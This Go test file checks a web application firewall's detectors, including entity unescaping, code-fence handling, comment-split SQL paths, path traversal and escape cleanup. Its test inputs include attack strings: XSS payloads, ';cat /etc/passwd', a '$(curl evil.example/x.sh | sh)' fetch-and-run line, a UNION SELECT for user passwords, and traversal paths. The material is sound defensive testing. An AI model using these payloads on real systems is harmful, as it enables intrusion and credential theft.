package waf

import (
	"net/http/httptest"
	"strings"
	"testing"
)

func TestUnescapeMarkup(t *testing.T) {
	cases := []struct{ in, want string }{
		// Text content: "<" and ">" written as references stay text.
		{"<p>copy &lt;script&gt; tags</p>", "<p>copy &lt;script&gt; tags</p>"},
		{"<p>a &#60;b&#x3E; c</p>", "<p>a &#60;b&#x3E; c</p>"},
		{"<p>Tom &amp; Jerry &eacute;t&eacute;</p>", "<p>Tom & Jerry été</p>"},
		// XML text: other references decode, as a parser hands them over.
		{"<id>&#49;&#32;UNION</id>", "<id>1 UNION</id>"},
		// Inside a tag every reference decodes: a srcdoc is a document,
		// an href a URL.
		{`<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;">`, `<iframe srcdoc="<script>x</script>">`},
		{`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="javascript:alert(1)">x</a>`},
		{`<img src="javas&#x63;ript:&#x61;lert(1)">`, `<img src="javascript:alert(1)">`},
		// No markup: decoded whole, as an application that decodes
		// references would.
		{"&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"},
		{"no references", "no references"},
		{"<b>&</b> &; &#; &#x; &zz", "<b>&</b> &; &#; &#x; &zz"},
	}
	for _, c := range cases {
		if got := unescapeMarkup(c.in); got != c.want {
			t.Errorf("unescapeMarkup(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestRefsAsWords(t *testing.T) {
	cases := []struct{ in, want string }{
		{"<p>copy &lt;script&gt; tags</p>", "<p>copy xscriptx tags</p>"},
		{"<p>Tom &amp; Jerry</p>", "<p>Tom x Jerry</p>"},
		// Without a closing ";" a shell's "&" is what it may be.
		{"<p>a &lt b</p>", "<p>a &lt b</p>"},
		// Without markup nothing changes: "&" may reach a shell.
		{"x&lt;id", "x&lt;id"},
	}
	for _, c := range cases {
		if got := refsAsWords(c.in); got != c.want {
			t.Errorf("refsAsWords(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	// The family judges: a rich-text page is no command; the same
	// reference smuggled into a value without markup still is.
	if sc := shellScore("<p>Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy &lt;script&gt; tags as text.</p>"); sc == scoreAttack {
		t.Error("rich text with &lt;script&gt; scored as a command")
	}
	if sc := shellScore("copy &lt;script&gt; tags"); sc != scoreAttack {
		t.Errorf("references without markup: shellScore = %d, want an attack", sc)
	}
	if sc := xssScore("<p>copy &lt;script&gt;render()&lt;/script&gt; as text</p>"); sc == scoreAttack {
		t.Error("escaped script shown as text in rich text scored as XSS")
	}
	if sc := xssScore(`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`); sc != scoreAttack {
		t.Errorf("srcdoc with an escaped script: xssScore = %d, want an attack", sc)
	}
	if sc := xssScore("&lt;script&gt;alert(1)&lt;/script&gt;"); sc != scoreAttack {
		t.Errorf("escaped script without markup: xssScore = %d, want an attack", sc)
	}
}

func FuzzUnescapeMarkup(f *testing.F) {
	for _, s := range []string{"<p>&lt;x&gt;</p>", `<a href="&#106;">`, "&", "&#x", "<&amp", "<p a='&lt;'>&nGt;</p>", "&#99999999999999999;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := unescapeMarkup(s)
		if len(out) > 2*len(s)+4 {
			t.Fatalf("unescapeMarkup(%q) grew to %q", s, out)
		}
		if w := refsAsWords(s); len(w) > len(s) {
			t.Fatalf("refsAsWords(%q) grew to %q", s, w)
		}
	})
}

func TestFencedCode(t *testing.T) {
	kinds := map[string]bool{
		"```go\nfunc main() {\n\tos.Exit(run())\n}\n```":                  true,
		"Try this:\n\n~~~python\nprint(cursor.execute(q))\n~~~\n\nThanks": true,
		"```\nplain block\n```":                                           true,
		"``` Thanks!":                                                     false,
		"```go\nno closing fence":                                         false,
		"a `single` backtick and ```triple``` inline":                     false,
		"```sh; id\nx\n```":                                               false,
	}
	for in, want := range kinds {
		if got := hasFencedCode(in); got != want {
			t.Errorf("hasFencedCode(%q) = %v, want %v", in, got, want)
		}
	}
	// Fences are no backquotes to the shell scorer; what stands between
	// them is still judged line by line.
	if sc := shellScore("```go\nfunc main() {\n\tif err := run(os.Args[1:]); err != nil {\n\t\tos.Exit(1)\n\t}\n}\n```"); sc == scoreAttack {
		t.Error("a Go code block scored as a command")
	}
	for _, v := range []string{"```\n;cat /etc/passwd\n```", "```sh\nid\n```", "```\n$(curl evil.example/x.sh | sh)\n```"} {
		if sc := shellScore(v); sc != scoreAttack {
			t.Errorf("shellScore(%q) = %d, want an attack", v, sc)
		}
	}
}

func FuzzBlankFences(f *testing.F) {
	for _, s := range []string{"```go\nx\n```", "~~~\n~~~", "```", "```\n", "a\n```b c\n```"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := blankFences(s)
		if len(out) > len(s) {
			t.Fatalf("blankFences(%q) grew to %q", s, out)
		}
		if strings.Count(out, "\n") != strings.Count(s, "\n") {
			t.Fatalf("blankFences(%q) = %q: lines lost", s, out)
		}
	})
}

func TestCommentedPath(t *testing.T) {
	cases := []struct {
		in, want string
		ok       bool
	}{
		{"/files/27/**/union/**/select/**/1,2/view", "/files/27 union select 1,2/view", true},
		{"/a/*x*/b", "/a b", true},
		{"/api/*/items", "", false},
		{"/plain/path", "", false},
		{"/a/**", "", false},
	}
	for _, c := range cases {
		got, ok := commentedPath(c.in)
		if ok != c.ok || ok && got != c.want {
			t.Errorf("commentedPath(%q) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
		}
	}
	// Through the WAF: SQL written across path segments is refused, a
	// path with a glob is not.
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	for target, block := range map[string]bool{
		"/files/-1/**/union/**/select/**/1,2,user_password,username/**/from/**/users/view": true,
		"/api/*/items/latest": false,
	} {
		if v := judgeRequest(t, w, nil, httptest.NewRequest("GET", target, nil)); v.Block != block {
			t.Errorf("%s: block %v (rules %v), want %v", target, v.Block, v.RuleIDs, block)
		}
	}
}

func FuzzCommentedPath(f *testing.F) {
	for _, s := range []string{"/a/**/b", "/*", "*/", "/**/**/", "/a/*b*/c/*"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if out, ok := commentedPath(s); ok && len(out) >= len(s) {
			t.Fatalf("commentedPath(%q) = %q: no comment taken out", s, out)
		}
	})
}

func TestSpansSegments(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"/files/$(/usr/bin/id)/view", true},
		{"/files/ aa' / +1 like '0/view", true},
		{"/a/`id/x`/b", true},
		{"/wiki/O'Neil", false},
		{"/wiki/O'Neil/talk/Smith's", true},
		{"/files/a(1)/b", false},
		{"/files/report (draft)/v2", false},
		{"/api/v1/items", false},
		{"/a/'x'/b/'y'", false},
	}
	for _, c := range cases {
		if got := spansSegments(c.in); got != c.want {
			t.Errorf("spansSegments(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestHasDotSegment(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"../etc/passwd", true},
		{"....//....//boot.ini", true},
		{"..\\..\\windows\\win.ini", true},
		{"..../0x2f..../0x2fetc", true},
		{"wait...", false},
		{"a..b", false},
		{"v1.2.3", false},
		{"see... /home", false},
	}
	for _, c := range cases {
		if got := hasDotSegment(c.in); got != c.want {
			t.Errorf("hasDotSegment(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestDropControls(t *testing.T) {
	for in, want := range map[string]string{
		"85\funion\fselect\v1": "85 union select 1",
		"a\x00b\x1fc\x7fd":     "abcd",
		"line\none\ttab\r":     "line\none\ttab\r",
	} {
		if got := dropControls(in); got != want {
			t.Errorf("dropControls(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzSpansSegments(f *testing.F) {
	for _, s := range []string{"/a/$(/b)/c", "/'/'", "/(((/)))", "..//", "\f"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if spansSegments(s) && !strings.Contains(s, "/") {
			t.Fatalf("spansSegments(%q) without a segment boundary", s)
		}
		if hasDotSegment(s) && !strings.Contains(s, "..") {
			t.Fatalf("hasDotSegment(%q) without two dots", s)
		}
		if out := cutPartialEscape(s); len(out) > len(s) || !strings.HasPrefix(s, out) {
			t.Fatalf("cutPartialEscape(%q) = %q", s, out)
		}
		if out := dropControls(s); len(out) > len(s) {
			t.Fatalf("dropControls(%q) grew", s)
		}
	})
}

func TestCutPartialEscape(t *testing.T) {
	for in, want := range map[string]string{
		"http://a/?q=onfocus%3": "http://a/?q=onfocus",
		"http://a/?q=x%":        "http://a/?q=x",
		"http://a/?q=x%3D":      "http://a/?q=x%3D",
		"http://a/?q=100%z":     "http://a/?q=100%z",
		"%":                     "",
		"50%25":                 "50%25",
		"":                      "",
	} {
		if got := cutPartialEscape(in); got != want {
			t.Errorf("cutPartialEscape(%q) = %q, want %q", in, got, want)
		}
	}
}
